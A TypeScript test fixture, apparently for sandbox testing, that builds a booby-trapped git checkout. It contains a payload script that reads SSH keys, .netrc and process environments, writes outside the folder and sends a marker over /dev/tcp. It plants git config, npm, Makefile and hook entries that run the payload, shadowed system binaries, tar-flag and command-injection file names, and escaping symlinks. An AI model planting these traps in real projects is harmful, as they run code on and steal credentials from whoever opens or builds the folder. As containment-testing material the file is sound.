/**
 * A hostile working folder: a git checkout whose configuration, hooks and build files run `payload.sh`, programs with names of
 * system programs, links that lead out, and file names that look like flags.
 */
import { execFileSync } from "node:child_process";
import { chmodSync, linkSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { filled, type Places } from "./places.ts";

/** What runs where anything in the folder gets to run. It tries everything with few processes, so that it costs little. */
const payload = `#!/bin/sh
for f in @OUTSIDE@/@MARK@ @OUTSIDE@/secret.txt @HOME@/@MARK@ @HOME@/.bashrc @WORKSPACE@/@MARK@ @DATA@/@MARK@ /tmp/@MARK@ \\
  /var/tmp/@MARK@ /dev/shm/@MARK@ /etc/@MARK@ /usr/local/bin/@MARK@ /root/@MARK@ /@MARK@ link-absolute link-relative \\
  link-root link-folder/@MARK@ /proc/1/root/tmp/@MARK@ /proc/sys/kernel/printk_ratelimit_burst; do
  { echo x > "$f"; } 2>/dev/null
done
for f in @OUTSIDE@/secret.txt @HOME@/.netrc @HOME@/.ssh/id_rsa @WORKSPACE@/canary.txt @DATA@/canary.txt @CONFIG@ \\
  /proc/@BOT@/environ /proc/@BAIT@/cmdline /dev/shm/@MARK@.canary link-absolute link-relative link-root; do
  { read -r line < "$f" && echo "$line"; } 2>/dev/null
done
kill -9 @BAIT@ @BOT@ 2>/dev/null
bash -c 'echo @MARK@ > /dev/tcp/@ADDRESS@/@TCP@; echo @MARK@ > /dev/udp/127.0.0.1/@UDP@' 2>/dev/null
(setsid sleep 300 > /dev/null 2>&1 &)
exit 0
`;

const gitConfig = `[core]
	repositoryformatversion = 0
	bare = false
	fsmonitor = ./payload.sh
	pager = sh payload.sh
	editor = ./payload.sh
	sshCommand = sh payload.sh
	attributesFile = .gitattributes
[user]
	name = Ann
	email = ann@example.test
[alias]
	st = !sh payload.sh
	x = !sh payload.sh
[diff]
	external = ./payload.sh
[diff "evil"]
	textconv = sh payload.sh
[filter "evil"]
	clean = sh payload.sh
	smudge = sh payload.sh
[merge "evil"]
	driver = sh payload.sh
[credential]
	helper = !sh payload.sh
[gpg]
	program = ./payload.sh
[commit]
	gpgSign = true
[protocol "ext"]
	allow = always
[remote "origin"]
	url = ext::sh payload.sh
	fetch = +refs/heads/*:refs/remotes/origin/*
[include]
	path = @OUTSIDE@/gitconfig
[safe]
	directory = *
[interactive]
	diffFilter = sh payload.sh
[sequence]
	editor = ./payload.sh
[difftool "x"]
	cmd = sh payload.sh
`;

const makefile = `$(shell sh payload.sh)
-include @OUTSIDE@/secret.txt
.PHONY: all version clean test
all version clean test x:
	sh payload.sh
	cat @OUTSIDE@/secret.txt
`;

const packageJson = {
  name: "planted",
  version: "1.0.0",
  bin: { payload: "./payload.sh" },
  scripts: Object.fromEntries(
    ["preinstall", "postinstall", "pretest", "test", "build", "start"].map((name) => [name, "sh payload.sh"]),
  ),
};

/** Names of programs that commands use without a path. */
const shadowed =
  "ls cat git make id sh bash env timeout awk sed grep find sort xargs python3 node npm tar ssh curl vi true x x.so x.deb";

const gitHooks = "pre-commit post-commit post-checkout post-merge pre-rebase pre-push post-rewrite fsmonitor-watchman";

const textFiles: Readonly<Record<string, string>> = {
  "a.txt": "alpha\nbeta\ngamma\n",
  "notes.md": "# Notes\n\nTODO: nothing\n",
  "data.csv": "name,count\na,1\nb,2\n",
  "src/main.ts": 'console.log("hello");\n',
  "src/lib/util.ts": "export const one = 1;\n",
  "src/hello.c": '#include "../../outside/secret.txt"\nint main(void) { return 0; }\n',
  "build/out.o": "object\n",
  "with blank.txt": "blank\n",
  "-rf": "flag\n",
  "--checkpoint=1": "",
  "--checkpoint-action=exec=sh payload.sh": "",
  "--output=x": "",
  "$(touch x)": "",
  "`id`": "",
  "weird;name": "",
  "new\nline": "",
  "*": "star\n",
  " ": "",
  v1: "#!/bin/sh\nsh payload.sh\n",
  "package.json": JSON.stringify(packageJson),
  ".npmrc": "script-shell=./payload.sh\n",
  Makefile: makefile,
  "build.mk": makefile,
  "script.awk": 'BEGIN { system("sh payload.sh"); print "x" > "@OUTSIDE@/@MARK@" }\n',
  "script.cmake": "execute_process(COMMAND sh payload.sh)\nfile(WRITE @OUTSIDE@/@MARK@ x)\n",
  "payload.py": 'import os\nos.system("sh payload.sh")\n',
  "payload.pm": 'system "sh payload.sh"; 1;\n',
  "payload.js": 'require("node:child_process").execSync("sh payload.sh");\n',
  "json.py": 'import os\nos.system("sh payload.sh")\n',
  "sitecustomize.py": 'import os\nos.system("sh payload.sh")\n',
  "setup.py": 'import os\nos.system("sh payload.sh")\n',
  "escape.patch":
    "--- /dev/null\n+++ ../outside/@MARK@\n@@ -0,0 +1 @@\n+x\n--- link-folder/secret.txt\n+++ link-folder/secret.txt\n@@ -1 +1 @@\n-a\n+b\n",
  "change.patch": "--- a.txt\n+++ a.txt\n@@ -1,3 +1,3 @@\n-alpha\n+omega\n beta\n gamma\n",
  ".envrc": "sh payload.sh\n",
  ".bashrc": "sh payload.sh\n",
  ".profile": "sh payload.sh\n",
  ".vimrc": "!sh payload.sh\n",
  ".exrc": "!sh payload.sh\n",
  ".gdbinit": "shell sh payload.sh\n",
  ".curlrc": 'output = "@OUTSIDE@/@MARK@"\n',
  ".gitattributes": "* filter=evil diff=evil merge=evil\n",
  ".gitmodules": '[submodule "sub"]\n\tpath = sub\n\turl = ext::sh payload.sh\n\tupdate = !sh payload.sh\n',
  ".ssh/config": "Host *\n  ProxyCommand sh payload.sh\n",
};

const links: Readonly<Record<string, string>> = {
  "link-absolute": "@OUTSIDE@/secret.txt",
  "link-relative": "../outside/secret.txt",
  "link-root": "/proc/self/root@OUTSIDE@/secret.txt",
  "link-folder": "@OUTSIDE@",
  "link-proc": "/proc/1/root",
  "link-bot": "/proc/@BOT@/root",
  "link-loop": "link-loop",
  "link-none": "/nowhere/at/all",
  "link-etc": "/etc/passwd",
};

export function plantFolder(folder: string, places: Places): void {
  const write = (name: string, text: string, mode = 0o644) => {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    writeFileSync(join(folder, name), filled(text, places), { mode });
  };
  mkdirSync(join(folder, "empty"), { recursive: true });
  const git = (...args: string[]) =>
    execFileSync("git", ["-c", "user.name=Ann", "-c", "user.email=ann@example.test", ...args], { cwd: folder });
  git("init", "-q", "-b", "main");
  for (const [name, text] of Object.entries(textFiles)) write(name, text);
  write("payload.sh", payload, 0o755);
  git("add", "-A", "src", "a.txt", "notes.md", "data.csv");
  git("commit", "-qm", "first");
  write("a.txt", "alpha\nbeta\ndelta\n");
  git("commit", "-qam", "second");
  write(".git/config", gitConfig);
  for (const name of gitHooks.split(" ")) write(`.git/hooks/${name}`, payload, 0o755);
  for (const name of shadowed.split(" ")) write(name, "#!/bin/sh\nexec /bin/sh payload.sh\n", 0o755);
  for (const [name, target] of Object.entries(links)) symlinkSync(filled(target, places), join(folder, name));
  write("linked-1", "linked\n");
  linkSync(join(folder, "linked-1"), join(folder, "linked-2"));
  write("read-only.txt", "read-only\n", 0o444);
  write("setuid", payload, 0o755);
  chmodSync(join(folder, "setuid"), 0o4755);
  plantSpecialFiles(folder);
}

function plantSpecialFiles(folder: string): void {
  const at = (name: string) => join(folder, name);
  execFileSync("tar", ["cf", at("archive.tar"), "-C", folder, "a.txt", "payload.sh", "link-folder", "setuid"]);
  execFileSync("tar", ["cf", at("escape.tar"), "-P", "--transform=s,^,../outside/,", "-C", folder, "a.txt"]);
  execFileSync("mkfifo", [at("pipe")]);
  writeFileSync(Buffer.concat([Buffer.from(`${folder}/`), Buffer.from([0x62, 0xff, 0xfe])]), "no UTF-8\n");
  // Only root can create devices. This one reads zeros.
  if (process.getuid?.() === 0) execFileSync("mknod", [at("device"), "c", "1", "5"]);
}
